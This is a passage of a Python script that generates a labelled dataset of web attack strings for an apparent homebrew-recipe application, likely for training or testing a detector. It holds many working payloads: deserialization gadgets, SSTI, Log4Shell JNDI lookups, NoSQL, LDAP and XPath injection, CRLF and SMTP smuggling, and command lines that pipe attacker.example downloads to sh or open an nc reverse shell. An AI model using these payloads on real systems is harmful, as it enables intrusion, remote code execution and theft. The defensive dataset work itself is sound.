    ("recipe_backup-yaml-python-object", "name: Stout\nog: !!python/object/apply:os.system ['id']"),
    ("recipe_backup-yaml-subprocess", "!!python/object/apply:subprocess.check_output [['cat', '/etc/passwd']]"),
    ("recipe_backup-node-serialize-iife", "{\"label\": \"_$$ND_FUNC$$_function(){require('child_process').exec('curl http://attacker.example/n|sh')}()\"}"),
    ("recipe_backup-php-serialized", "O:8:\"Recipe\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("recipe_backup-dotnet-typename", "{\"$type\": \"System.Windows.Data.ObjectDataProvider, PresentationFramework\", \"MethodName\": \"Start\", \"MethodParameters\": {\"$values\": [\"cmd\", \"/c calc\"]}}"),
    ("recipe_backup-jackson-polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\", {\"dataSourceName\": \"ldap://attacker.example/o\", \"autoCommit\": true}]"),
    ("recipe_backup-fastjson-autotype", "{\"@type\": \"com.sun.rowset.JdbcRowSetImpl\", \"dataSourceName\": \"rmi://198.51.100.2/x\", \"autoCommit\": true}"),
    ("csv_export-formula-hyperlink", "=HYPERLINK(\"http://attacker.example/?d=\"&A1, \"Click for recipe\")"),
    ("csv_export-formula-dde", "=cmd|' /C calc'!A0"),
    ("csv_export-formula-plus", "+SUM(1+1)*cmd|' /C notepad'!A1"),
    ("csv_export-formula-at", "@SUM(1+9)*cmd|' /C powershell IEX(wget attacker.example/p)'!A0"),
    ("csv_export-formula-minus", "-2+3+cmd|' /C explorer'!A0"),
    ("csv_export-formula-importxml", "=IMPORTXML(CONCAT(\"http://attacker.example/?\", B2), \"//a\")"),
    ("recipe_calc-python-eval", "__import__('os').system('id')"),
    ("recipe_calc-python-eval-builtins", "1.052 if __builtins__.__dict__['__import__']('os').system('id') else 0"),
    ("recipe_calc-node-eval", "require('child_process').execSync('cat /etc/passwd').toString()"),
    ("recipe_calc-node-function", "(function(){return process.env})()"),
    ("recipe_calc-php-eval", "phpinfo();"),
    ("recipe_calc-ruby-eval", "system('id')"),
    ("plain-ssti-arith", "{{7*191}}"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/z}"),
    ("plain-el-arith", "${9*787}"),
    ("plain-csv-formula", "=1+1+cmd|' /C calc'!A0"),
    ("plain-proto", "{\"__proto__\": {\"polluted\": 1}}"),
    ("plain-xxe", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/hostname\">]><x>&e;</x>"),
    ("label_template-ssti-jinja+url", "%7B%7B%20config.__class__.__init__.__globals__%5B%27os%27%5D.popen(%27id%27).read()%20%7D%7D"),
    ("brew_log-log4shell+url", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fu%7D"),
    ("beerjson-proto+uni", "{\"\\u005f\\u005fproto\\u005f\\u005f\": {\"isAdmin\": true}}"),
    ("label_template-ssti-jinja+html", "&#123;&#123; config &#125;&#125;"),
]

NOSQLI = [
    ("login_json-ne-operator", "{\"username\": \"admin\", \"password\": {\"$ne\": null}}"),
    ("login_json-gt-empty", "{\"username\": {\"$gt\": \"\"}, \"password\": {\"$gt\": \"\"}}"),
    ("recipe_search-regex", "{\"name\": {\"$regex\": \"^.*\"}, \"owner\": {\"$ne\": \"me\"}}"),
    ("recipe_search-where-js", "{\"$where\": \"sleep(5000) || true\"}"),
    ("recipe_search-where-string-breakout", "IPA'; return true; var x='"),
    ("recipe_search-where-string-sleep", "Stout'; sleep(6000); var d='"),
    ("query_param-bracket-ne", "password[$ne]=x"),
    ("query_param-bracket-regex", "username[$regex]=^adm&password[$ne]=1"),
    ("query_param-bracket-in", "role[$in][]=admin&role[$in][]=owner"),
    ("filter_json-or-bypass", "{\"$or\": [{\"public\": true}, {\"owner\": {\"$exists\": true}}]}"),
    ("filter_json-expr-js", "{\"$expr\": {\"$function\": {\"body\": \"function(){sleep(4000);return true}\", \"args\": [], \"lang\": \"js\"}}}"),
    ("aggregate-lookup-users", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"owner\", \"foreignField\": \"_id\", \"as\": \"u\"}}]"),
    ("hop_filter-regex-blind", "{\"token\": {\"$regex\": \"^a\"}}"),
    ("stats_filter-where-this", "{\"$where\": \"this.og > 1.05 && this.password.match(/^p/)\"}"),
    ("beerjson-import-operator-in-field", "{\"name\": \"Saison\", \"owner_id\": {\"$gt\": 0}}"),
    ("update_body-set-role", "{\"$set\": {\"role\": \"admin\"}}"),
    ("couchdb_selector-gt-null", "{\"selector\": {\"_id\": {\"$gt\": null}}}"),
    ("redis_key-newline-command", "recipe:42\r\nFLUSHALL\r\n"),
    ("plain-ne-null", "{\"$ne\": null}"),
    ("plain-bracket-gt", "[$gt]="),
    ("login_json-ne+uni", "{\"password\": {\"\\u0024ne\": \"x\"}}"),
    ("query_param-bracket-ne+url", "password%5B%24ne%5D=1"),
]

CRLF = [
    ("redirect_param-header-injection", "/recipes/42%0d%0aSet-Cookie:%20session=placeholder-fixed"),
    ("redirect_param-response-splitting", "/login\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("download_name-content-disposition", "recipe.xml\r\nX-Injected: 1"),
    ("lang_cookie-header-injection", "de\r\nSet-Cookie: role=admin; Path=/"),
    ("brew_log-log-forging", "Day 3: krausen dropped\n2024-03-03 10:00:01 INFO user=admin action=grant_role role=superuser"),
    ("recipe_name-log-forging", "Citra SMaSH\r\n[AUDIT] password reset for user admin OK"),
    ("forum_post-log-forging-lf", "Nice beer!\nERROR 500 db connection string=postgres://placeholder@db/brew"),
    ("contact_email-mail-bcc", "brewer@brew.example\r\nBcc: all-members@brew.example"),
    ("contact_subject-mail-header", "Question about OG 1.052\nCc: victim@brew.example\nContent-Type: text/html"),
    ("contact_email-mail-body-break", "me@brew.example\r\n\r\nYour account is locked, verify at https://attacker.example/login"),
    ("newsletter_name-smtp-smuggling", "Jo\r\n.\r\nMAIL FROM:<ceo@brew.example>\r\nRCPT TO:<victim@brew.example>\r\nDATA"),
    ("webhook_header-value-injection", "application/json\r\nX-Forwarded-For: 127.0.0.1"),
    ("redirect_param-location-double", "/recipes%0d%0aLocation:%20https://attacker.example/"),
    ("csv_export-log-ansi-escape", "Porter\u001b[2J\u001b[1;31mSYSTEM COMPROMISED\u001b[0m"),
    ("syslog_field-priority-forging", "Kölsch\n<34>Mar  3 10:00:00 brewhost sshd[1]: Accepted password for root from 203.0.113.1"),
    ("hop_schedule-json-log-forging", "28 g Citra @ 10\n{\"level\":\"info\",\"user\":\"admin\",\"msg\":\"login ok\"}"),
    ("header_value-host-override", "brew.example\r\nHost: internal.brew.example"),
    ("redirect_param-cr-only", "/home\rSet-Cookie: a=b"),
    ("plain-crlf-set-cookie", "\r\nSet-Cookie: x=1"),
    ("plain-lf-log-line", "\n[INFO] login success user=admin"),
    ("plain-crlf-header", "%0d%0aX-Test: injected"),
    ("redirect_param-header+url2", "/r%250d%250aSet-Cookie:%2520sid=placeholder"),
    ("redirect_param-header+unicode-newline", "/recipes\u560d\u560aSet-Cookie: sid=placeholder"),
    ("redirect_param-header+url-lowercase-lf", "/r%0aRefresh:%200;url=https://attacker.example/"),
]

LDAP_XPATH = [
    ("ldap_login-wildcard", "*"),
    ("ldap_login-filter-close-or", "admin)(|(uid=*"),
    ("ldap_login-and-true", "admin)(&)"),
    ("ldap_search-attribute-exfil", "jo*)(userPassword=a*"),
    ("ldap_search-objectclass", "brewer)(objectClass=*))(|(cn=x"),
    ("ldap_group-member-injection", "homebrewers)(member=cn=admin,dc=brew,dc=local"),
    ("ldap_login-null-terminate+url", "admin)%00"),
    ("ldap_search-description-blind", "*)(description=*pass*"),
    ("xpath_recipe-or-true", "Stout' or '1'='1"),
    ("xpath_login-or-true", "' or 1=1 or ''='"),
    ("xpath_recipe-union-nodes", "IPA'] | //user/password | //*['"),
    ("xpath_recipe-substring-blind", "x' or substring(//user[1]/password,1,1)='a' or 'x'='y"),
    ("xpath_recipe-count-blind", "Porter' and count(//user)>3 and 'a'='a"),
    ("xpath_beerxml-name-predicate", "Citra\"] | //HOP | //*[\""),
    ("xpath_recipe-string-length", "' or string-length(name(/*[1]))=7 or '"),
    ("xpath_recipe-doc-function", "' or doc('http://attacker.example/x.xml') or '"),
    ("plain-ldap-wildcard-close", "*)(|(objectClass=*"),
    ("plain-xpath-or", "' or '1'='1"),
    ("ldap_login-filter-close-or+url", "admin%29%28%7C%28uid%3D%2A"),
]

LITERALS = {
    "sqli": SQLI,
    "xss": XSS,
    "cmdi": CMDI,
    "traversal": TRAVERSAL,
    "ssrf": SSRF,
    "code": CODE,
    "nosqli": NOSQLI,
    "crlf": CRLF,
    "ldap-xpath": LDAP_XPATH,
}

# --------------------------------------------------------------------------- templates
# Hand-written pools of domain text into which hand-written payload fragments are placed.

RECIPE_NAMES = ["Dad's Lawnmower Blonde", "Select Pale Ale", "Union Street Porter", "Hazy Days",
                "Weißbier", "Bière de Garde", "Cyser", "Märzen '24", "Oatmeal Stout", "Brut IPA"]
HOP_LINES = ["28 g Citra @ 10 min", "Magnum 20 g @ 60", "Saaz 50 g @ 60", "DH 100 g Galaxy",
             "1 oz Centennial @ 15", "Whirlpool 60 g Mosaic"]
GRAIN_LINES = ["5.5 kg Maris Otter", "0.3 kg Crystal 60L", "4 kg Pilsner", "10 lb 2-row",
               "500 g Wheat malt"]
STAT_LINES = ["OG 1.052", "FG 1.010", "35 IBU", "ABV 5.5%", "1.048", "12.5"]

SQLI_TAILS = [
    ("union-select", "' UNION SELECT username, password FROM users-- "),
    ("time-sleep", "' AND SLEEP(8)-- "),
    ("stacked-drop", "'; DROP TABLE brew_logs;--"),
    ("or-tautology", "' OR '1'='1"),
    ("pg-sleep", "'; SELECT pg_sleep(6);--"),
    ("error-extractvalue", "' AND extractvalue(1,concat(0x7e,database()))-- "),
]
XSS_TAILS = [
    ("img-onerror", "<img src=x onerror=alert(document.cookie)>"),
    ("svg-onload", "<svg onload=fetch('//attacker.example/'+document.cookie)>"),
    ("script-tag", "<script>alert('hop')</script>"),
    ("attr-breakout", "\" onfocus=\"alert(1)\" autofocus=\""),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
]
CMDI_TAILS = [
    ("semicolon", "; cat /etc/passwd"),
    ("subshell", " $(curl http://attacker.example/x|sh)"),
    ("backticks", " `id`"),
    ("and", " && nc 203.0.113.8 4444 -e /bin/sh"),
    ("pipe", " | sleep 12"),
]
TRAV_TARGETS = ["etc/passwd", "etc/shadow", "proc/self/environ", "root/.bash_history",
                "var/www/.env", "etc/ssl/private/server.key"]
TRAV_FIELDS = ["attachment", "recipe_image", "label_template", "beerxml_import", "export_download"]
SSRF_TARGETS = [("metadata", "http://169.254.169.254/latest/meta-data/"),
                ("loopback", "http://127.0.0.1:{p}/"),
                ("internal-rfc1918", "http://192.168.0.{h}:{p}/admin"),
                ("internal-10net", "http://10.0.{h}.1:{p}/"),
                ("localhost", "http://localhost:{p}/actuator/env")]
SSRF_FIELDS = ["import_url", "webhook", "avatar_url", "hop_supplier_feed", "recipe_image_url"]
CODE_TAILS = [
    ("ssti-jinja", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("log4shell-ldap", "${jndi:ldap://attacker.example/%s}"),
    ("ssti-el", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("csv-formula", "=cmd|' /C calc'!A0"),
    ("ssti-erb", "<%= system('id') %>"),
]
NOSQL_FIELDS = ["owner", "token", "email", "name", "style"]
NOSQL_OPS = [("ne-operator", "{{\"{f}\": {{\"$ne\": \"{v}\"}}}}"),
             ("regex", "{{\"{f}\": {{\"$regex\": \"^{v}\"}}}}"),
             ("gt-operator", "{{\"{f}\": {{\"$gt\": \"\"}}, \"style\": \"{v}\"}}")]
CRLF_HEADERS = ["Set-Cookie: sid=placeholder-{n}", "X-Forwarded-Host: attacker.example",
                "Location: https://attacker.example/{n}", "Access-Control-Allow-Origin: *"]
LDAP_NAMES = ["jo", "brewmaster", "admin", "hopper", "malty"]


def t_sqli(rng):
    name, tail = rng.choice(SQLI_TAILS)
    ctx, base = rng.choice([("recipe_name", RECIPE_NAMES), ("hop_schedule", HOP_LINES),
                            ("grain_bill", GRAIN_LINES), ("stats", STAT_LINES)])
    return f"{ctx}-{name}", rng.choice(base) + tail


def t_xss(rng):
    name, tail = rng.choice(XSS_TAILS)
    ctx, base = rng.choice([("recipe_name", RECIPE_NAMES), ("hop_schedule", HOP_LINES),
                            ("grain_bill", GRAIN_LINES), ("stats", STAT_LINES)])
    return f"{ctx}-{name}", rng.choice(base) + " " + tail


def t_cmdi(rng):
    name, tail = rng.choice(CMDI_TAILS)
    ctx, base = rng.choice([("label_printer", RECIPE_NAMES), ("export_filename", RECIPE_NAMES),
                            ("convert_og", STAT_LINES)])
    return f"{ctx}-{name}", rng.choice(base) + tail


def t_traversal(rng):
    depth = rng.randint(3, 8)
    sep = rng.choice(["/", "\\"])
    prefix = rng.choice(["", "uploads/", "labels/", "recipes/"])
    target = rng.choice(TRAV_TARGETS)
    if sep == "\\":
        target = target.replace("/", "\\")
    return (f"{rng.choice(TRAV_FIELDS)}-relative-depth{depth}",
            prefix + (".." + sep) * depth + target)


def t_ssrf(rng):
    name, url = rng.choice(SSRF_TARGETS)
    url = url.format(p=rng.choice([80, 2375, 5000, 6379, 8080, 8500, 9200]), h=rng.randint(1, 254))
    return f"{rng.choice(SSRF_FIELDS)}-{name}", url


def t_code(rng):
    name, tail = rng.choice(CODE_TAILS)
    if "%s" in tail:
        tail = tail % rng.choice(["a", "hop", "ipa", "x1", "mead"])
    ctx, base = rng.choice([("recipe_name", RECIPE_NAMES), ("brew_log", HOP_LINES),
                            ("csv_export", GRAIN_LINES)])
    return f"{ctx}-{name}", rng.choice(base) + " " + tail


def t_nosqli(rng):
    name, tpl = rng.choice(NOSQL_OPS)
    return f"recipe_filter-{name}", tpl.format(f=rng.choice(NOSQL_FIELDS), v=rng.choice(["a", "b", "ad", "x", "IPA"]))


def t_crlf(rng):
    h = rng.choice(CRLF_HEADERS).format(n=rng.randint(1, 999))
    return "redirect_param-header-injection", f"/recipes/{rng.randint(1, 999)}\r\n{h}"


def t_ldap(rng):
    n = rng.choice(LDAP_NAMES)
    attr = rng.choice(["userPassword", "mail", "telephoneNumber", "description"])
    return "ldap_search-attribute-exfil", f"{n}*)({attr}={rng.choice('abcdefgh')}*"


TEMPLATES = {
    "sqli": (t_sqli, 12),
    "xss": (t_xss, 10),
    "cmdi": (t_cmdi, 10),
    "traversal": (t_traversal, 4),
    "ssrf": (t_ssrf, 4),
    "code": (t_code, 6),
    "nosqli": (t_nosqli, 4),
    "crlf": (t_crlf, 6),
    "ldap-xpath": (t_ldap, 3),
}


def main():
    rng = random.Random(SEED)
    seen = set()
    rows = []
    stats = []
    for cat, lits in LITERALS.items():
        n0 = len(rows)
        for cls, v in lits:
            if v in seen:
                raise SystemExit(f"duplicate literal in {cat}: {v!r}")
            seen.add(v)
            rows.append((cat, cls, v))
        n_lit = len(lits)
        fn, extra = TEMPLATES[cat]
        made = tries = 0
        while made < extra:
            tries += 1
            if tries > 10000:
                raise SystemExit(f"template exhausted for {cat}")
            cls, v = fn(rng)
            if v in seen:
                continue
            seen.add(v)
            rows.append((cat, cls, v))
            made += 1
        stats.append((cat, len(rows) - n0, n_lit))
    out = Path(__file__).with_name("attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as fh:
        for i, (cat, cls, v) in enumerate(rows, 1):
            assert isinstance(v, str) and v and len(v) <= 1800, v
            obj = {"id": f"{PREFIX}-{i:05d}", "category": cat, "class": cls,
                   "label": "attack", "value": v}
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")
    total_lit = 0
    for cat, n, nl in stats:
        total_lit += nl
        print(f"{cat:12s} n={n:3d} literals={nl:3d} ({100 * nl / n:.0f}%)")
    plain = sum(1 for _, c, _ in rows if c.startswith("plain-"))
    enc = sum(1 for _, c, _ in rows if "+" in c)
    print(f"total={len(rows)} literals={total_lit} ({100 * total_lit / len(rows):.0f}%) "
          f"plain={plain} encoded={enc}")


if __name__ == "__main__":
    main()
